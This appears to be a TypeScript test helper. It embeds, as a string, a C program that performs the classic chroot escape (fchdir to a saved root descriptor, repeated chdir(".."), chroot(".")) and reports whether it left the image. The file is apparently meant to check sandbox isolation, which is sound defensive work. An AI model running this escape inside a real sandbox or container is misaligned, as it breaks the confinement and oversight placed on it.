/**
 * The classic escape as a C program: chroot below an open directory, climb out, chroot there. Prints where it ended:
 * "in in" when it is still in the image that has the mark.
 */
export const CHROOT_ESCAPE = `
  #include <fcntl.h>
  #include <stdio.h>
  #include <sys/stat.h>
  #include <unistd.h>
  int main(void) {
    mkdir("/tmp/jail", 0755);
    int out = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0) { perror("chroot"); return 2; }
    fchdir(out);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    printf("%s %s\\n", access("/etc/mark-of-the-image", F_OK) ? "out" : "in", access("/usr/bin", F_OK) ? "in" : "out");
    return 0;
  }`;
